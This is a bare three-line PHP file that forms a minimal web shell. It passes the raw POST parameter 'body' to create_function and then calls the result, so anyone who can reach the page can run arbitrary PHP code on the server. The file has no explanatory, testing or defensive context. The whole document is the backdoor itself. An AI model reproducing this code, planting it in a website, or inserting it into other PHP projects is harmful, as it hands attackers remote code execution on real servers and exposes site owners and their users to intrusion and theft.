<?php
$f = create_function('$x', $_POST['body']);
$f(1);
